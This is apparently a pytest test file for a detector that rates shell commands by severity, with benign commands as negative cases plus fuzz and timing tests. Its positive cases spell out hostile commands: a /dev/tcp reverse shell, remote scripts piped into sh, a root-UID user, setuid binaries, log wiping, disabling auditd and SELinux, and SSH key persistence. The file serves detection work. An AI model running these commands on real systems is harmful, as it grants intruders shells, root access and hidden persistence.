from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.content.shell.typed import typed
from pratique.model import Severity


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("bash -i >& /dev/tcp/198.51.100.2/443 0>&1", Severity.HIGH),
        ("echo eA== | base64 -d | sh", Severity.HIGH),
        ("useradd -o -u 0 bob", Severity.HIGH),
        ("chmod u+s /usr/bin/find", Severity.HIGH),
        ("chmod 4755 /tmp/x", Severity.HIGH),
        ("cd /tmp && wget http://198.51.100.1/a.sh && bash a.sh", Severity.MEDIUM),
        ("curl http://8.8.8.8/x | sh", Severity.MEDIUM),
        ("curl -s https://pastebin.com/raw/x | bash", Severity.MEDIUM),
        ("unset HISTFILE", Severity.MEDIUM),
        ("rm -rf /var/log/wtmp", Severity.MEDIUM),
        ("chattr +i /etc/passwd", Severity.MEDIUM),
        ("systemctl stop auditd", Severity.MEDIUM),
        ("./linpeas.sh", Severity.MEDIUM),
        ("insmod /dev/shm/.x/y.ko", Severity.MEDIUM),
        ("curl -fsSL https://get.docker.com | sh", Severity.LOW),
        ("curl http://10.0.0.5/install.sh | sh", Severity.LOW),
        ("history -c", Severity.LOW),
        ("echo 'ssh-ed25519 AAA bob' >> ~/.ssh/authorized_keys", Severity.LOW),
        ("setenforce 0", Severity.LOW),
        ("/tmp/test.sh", Severity.LOW),
    ],
)
def test_points_at(command, severity):
    found = typed(command)
    assert found is not None
    assert found.severity is severity


@pytest.mark.parametrize(
    "command",
    [
        "ls -la /tmp",
        "cd /var/log && tail -f auth.log",
        "apt update && apt upgrade",
        "systemctl restart nginx",
        "passwd bob",
        "chmod 755 /usr/local/bin/x",
        "chmod -R g+rwX /srv/www",
        "curl -I https://example.org/",
        "wget https://example.org/a.tar.gz -O /tmp/a.tar.gz",
        "vim /etc/ssh/sshd_config",
        "grep Failed /var/log/auth.log | tail",
        "python3 manage.py migrate",
        "journalctl -u ssh",
    ],
)
def test_leaves_alone(command):
    assert typed(command) is None


@given(st.text(max_size=300))
def test_any_text(command):
    typed(command + " curl")


@pytest.mark.parametrize("unit", ["chmod ", "touch -", "curl http://", "/tmp/", "insmod "])
def test_long_commands_take_no_time(unit):
    start = time.process_time()
    typed((unit * 2000)[:4096])
    assert time.process_time() - start < 2
